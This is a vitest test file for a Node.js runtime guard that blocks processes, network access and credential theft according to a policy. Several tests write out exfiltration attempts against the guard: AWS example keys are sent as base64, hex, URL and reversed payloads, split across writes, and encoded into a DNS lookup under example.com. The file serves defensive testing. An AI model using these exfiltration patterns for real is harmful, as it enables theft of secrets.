import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildSync } from 'esbuild';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { nodeVersions } from './node-versions.cases.ts';

const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const TOKEN = 'IQoJb3JpZ2luX2VjEXAMPLETOKEN0123456789';
const folder = mkdtempSync('/var/tmp/guard-start-');

beforeAll(() => {
  buildSync({
    stdin: {
      contents:
        "export * from './start-behaviour.ts'; export { readBehaviourPolicy } from './read-behaviour-policy.ts';",
      resolveDir: import.meta.dirname,
      loader: 'ts',
    },
    outfile: join(folder, 'guard.mjs'),
    bundle: true,
    platform: 'node',
    format: 'esm',
    target: 'node20',
  });
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Runs code with the guard started by `policy`; what it prints as JSON, and the violations. */
function run(node: string, policy: unknown, code: string) {
  writeFileSync(
    join(folder, 'run.mjs'),
    `
import { startBehaviour, readBehaviourPolicy } from './guard.mjs';
import http from 'node:http'; import net from 'node:net'; import fs from 'node:fs'; import dns from 'node:dns';
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
const violations = [];
const policyOf = (value) => readBehaviourPolicy(value).policy;
const behaviour = startBehaviour({ policy: policyOf(${JSON.stringify(policy)}), report: (v) => violations.push(v) });
const SECRET = ${JSON.stringify(SECRET)}, TOKEN = ${JSON.stringify(TOKEN)};
const bodies = [];
const server = http.createServer((q, s) => { let b = ''; q.on('data', (d) => { b += d; }); q.on('end', () => { bodies.push(q.url + ' ' + b); s.end('ok'); }); });
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const at = 'http://127.0.0.1:' + server.address().port;
const answer = await (async () => { ${code} })();
fs.writeFileSync(${JSON.stringify(join(folder, 'out.json'))}, JSON.stringify({ answer, violations, bodies }));
process.exit(0);
`,
  );
  const done = spawnSync(node, ['--no-warnings', join(folder, 'run.mjs')], {
    encoding: 'utf8',
    timeout: 20_000,
    env: {
      AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
      AWS_SECRET_ACCESS_KEY: SECRET,
      AWS_SESSION_TOKEN: TOKEN,
    },
  });
  const read = spawnSync('cat', [join(folder, 'out.json')], { encoding: 'utf8' });
  rmSync(join(folder, 'out.json'), { force: true });
  expect(read.stdout, done.stderr).not.toBe('');
  const out: {
    answer: unknown;
    violations: readonly Record<string, string>[];
    bodies: readonly string[];
  } = JSON.parse(read.stdout);
  return { ...out, stdout: done.stdout };
}

const SEND = `try { return (await fetch(at + path, { method: 'POST', body, headers })).status; } catch (e) { return e.cause?.code ?? e.code ?? String(e); }`;
const send = (set: string) => `let path = '/', body = 'x', headers = {}; ${set}; ${SEND}`;

describe.each(nodeVersions())('Node $major', ({ path }) => {
  test('alert lets the call go on and tells it once, with the place', () => {
    const { answer, violations } = run(
      path,
      { processes: 'alert' },
      "const { spawnSync } = require('child_process'); for (let i = 0; i < 5; i += 1) spawnSync('/bin/true'); return spawnSync('/bin/true').status;",
    );
    expect(answer).toBe(0);
    expect(violations).toEqual([
      expect.objectContaining({
        kind: 'processes',
        detail: '/bin/true',
        mode: 'alert',
        at: expect.stringMatching(/run\.mjs:\d+/),
      }),
    ]);
  });

  test('allow lists hold beside a block', () => {
    const { answer } = run(
      path,
      { processes: { mode: 'block', allow: ['true'] } },
      "const { spawnSync } = require('child_process'); const ok = spawnSync('/bin/true').status; try { spawnSync('/bin/false'); return 'ran'; } catch (e) { return [ok, e.code, e.message]; }",
    );
    expect(answer).toEqual([
      0,
      'ERR_WATERTIGHT_BLOCKED',
      'Cannot do start process: the behaviour policy blocks processes, /bin/false',
    ]);
  });

  test('the environment stays one, without what is protected', () => {
    const { answer } = run(
      path,
      { environment: 'block' },
      `const { inspect } = require('util'); process.env.NEW = '1'; const isSet = process.env.NEW === '1' && 'NEW' in process.env; delete process.env.NEW;
       const whole = (f) => { try { return f(); } catch (e) { return e.name; } };
       return [isSet, 'NEW' in process.env, process.env.NONE === undefined, inspect({ a: process.env }), inspect({ ...process.env }),
         whole(() => Object.freeze(process.env)), process.env.hasOwnProperty('X'), Object.keys(Object.assign({}, process.env))];`,
    );
    expect(answer).toEqual([true, false, true, '{ a: {} }', '{}', 'TypeError', false, []]);
  });

  test('the environment is shown whole under alert, and told', () => {
    const { answer, violations } = run(
      path,
      { environment: 'alert' },
      `return require('util').inspect(process.env).includes(SECRET);`,
    );
    expect(answer).toBe(true);
    expect(violations).not.toEqual([]);
  });

  test('databases, reports and modules where they are allowed', () => {
    const { answer, violations } = run(
      path,
      {
        otherWrites: { mode: 'block', allow: [folder] },
        handlerCode: 'block',
        network: { mode: 'block', allow: ['127.0.0.1'] },
      },
      `const base = fs.mkdtempSync('/tmp/guard-db-'); const done = [];
       const M = require('module');
       fs.writeFileSync(base + '/tool', 'module.exports = 7'); fs.writeFileSync(base + '/a.json', '{"a":1}');
       done.push(M.createRequire('/')(base + '/tool'), require(base + '/a.json').a);
       if (typeof M.enableCompileCache === 'function') M.enableCompileCache(base + '/cache');
       await new Promise((r) => dns.lookupService('127.0.0.1', 80, r));
       process.report.reportOnSignal = false;
       let q; try { q = require('node:sqlite'); } catch {}
       if (q !== undefined && process.versions.node >= '24') {
         const d = new q.DatabaseSync(':memory:'); d.exec("CREATE TABLE t (attach); INSERT INTO t VALUES ('vacuum into')");
         d.exec("ATTACH '" + base + "/b.db' AS b; CREATE TABLE b.t (x)"); d.exec("VACUUM INTO '" + base + "/v.db'"); await q.backup(d, base + '/k.db');
         const m = new q.DatabaseSync('file::memory:'); m.exec('CREATE TABLE t (x)'); m.exec("ATTACH ':memory:' AS m");
       }
       fs.rmSync(base, { recursive: true }); return done;`,
    );
    expect(answer).toEqual([7, 1]);
    expect(violations).toEqual([]);
  });

  test('network by address, port and name', () => {
    const { answer } = run(
      path,
      { network: { mode: 'block', allow: ['127.0.0.0/8', 'localhost'] } },
      `const get = async (url) => { try { return (await fetch(url)).status; } catch (e) { return e.cause?.code ?? String(e); } };
       return [await get(at), await get('http://localhost:' + server.address().port).then((x) => x === 200 || x === 'ECONNREFUSED'), await get('http://192.0.2.1/'), await get('http://example.com/')];`,
    );
    expect(answer).toEqual([200, true, 'ERR_WATERTIGHT_BLOCKED', 'ERR_WATERTIGHT_BLOCKED']);
  });

  test('reconfiguration needs the secret', () => {
    const { answer } = run(
      path,
      { processes: 'block' },
      `const { spawnSync } = require('child_process'); const can = () => { try { spawnSync('/bin/true'); return true; } catch { return false; } };
       const first = can(), wrong = behaviour.reconfigure('guess', policyOf({})), still = can(), right = behaviour.reconfigure(behaviour.secret, policyOf({}));
       const open = can(); behaviour.reconfigure(behaviour.secret, policyOf({ codeGeneration: 'block' }));
       let made; try { new Function('1'); made = true; } catch { made = false; }
       return [first, wrong, still, right, open, made, startBehaviourAgain() === behaviour]; function startBehaviourAgain() { return startBehaviour({ policy: policyOf({}) }); }`,
    );
    expect(answer).toEqual([false, false, false, true, true, false, true]);
  });

  test('the self-test tells which layer holds', () => {
    const { answer } = run(path, { processes: 'block', network: 'block' }, 'return behaviour.layers();');
    expect(answer).toEqual({
      permissionModel: { isOn: false, denies: [] },
      watched: ['processes', 'network'],
      missing: [],
    });
  });

  test('a direct eval keeps its variables under alert', () => {
    const { answer, violations } = run(
      path,
      { codeGeneration: 'alert' },
      "const local = 41; return eval('local + 1');",
    );
    expect(answer).toBe(42);
    expect(violations).toHaveLength(1);
  });

  test.each([
    ['body', 'body = SECRET'],
    ['base64 body', "body = JSON.stringify({ x: Buffer.from('a' + SECRET).toString('base64') })"],
    ['hex header', "headers = { 'x-a': Buffer.from(SECRET).toString('hex') }"],
    ['URL', "path = '/?q=' + encodeURIComponent(SECRET)"],
    ['reversed', "body = [...SECRET].reverse().join('')"],
    ['session token in a body', 'body = TOKEN'],
  ])('keys do not leave: %s', (_, set) => {
    const { answer, bodies, violations } = run(path, { credentialTheft: 'block' }, send(set));
    expect(answer).toBe('ERR_WATERTIGHT_BLOCKED');
    expect(bodies).toEqual([]);
    expect(violations[0]).toMatchObject({ kind: 'credentialTheft', mode: 'block' });
    expect(JSON.stringify(violations)).not.toContain(SECRET);
  });

  test('keys do not leave split over writes', () => {
    const { answer, bodies } = run(
      path,
      { credentialTheft: 'block' },
      `return await new Promise((r) => { const q = http.request(at, { method: 'POST' }, (s) => r(s.statusCode)); q.on('error', (e) => r(e.code));
       let i = 0; const next = () => { if (i < SECRET.length) { q.write(SECRET.slice(i, i + 4)); i += 4; setTimeout(next, 2); } else q.end(); }; next(); });`,
    );
    expect(answer).toBe('ERR_WATERTIGHT_BLOCKED');
    expect(bodies).toEqual([]);
  });

  test('keys do not leave in host names', () => {
    const { answer } = run(
      path,
      { credentialTheft: 'block' },
      "try { await dns.promises.lookup(Buffer.from(SECRET).toString('hex').slice(0, 60) + '.example.com'); return 'asked'; } catch (e) { return e.code; }",
    );
    expect(answer).toBe('ERR_WATERTIGHT_BLOCKED');
  });

  test('log lines are masked', () => {
    const { stdout } = run(
      path,
      { credentialTheft: 'block' },
      "console.log('key ' + SECRET + ' end'); console.error(SECRET);",
    );
    expect(stdout).toBe(`key ${'*'.repeat(SECRET.length)} end\n`);
  });

  test.each([
    [
      'signature header',
      "headers = { authorization: 'AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20260301/eu-west-1/s3/aws4_request, SignedHeaders=host, Signature=abc', 'x-amz-security-token': TOKEN }",
    ],
    [
      'presigned URL',
      "path = '/?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260301&X-Amz-Security-Token=' + TOKEN",
    ],
    ['ordinary body', "body = 'hello'"],
  ])('signed requests pass: %s', (_, set) => {
    expect(run(path, { credentialTheft: 'block' }, send(set)).answer).toBe(200);
  });
});
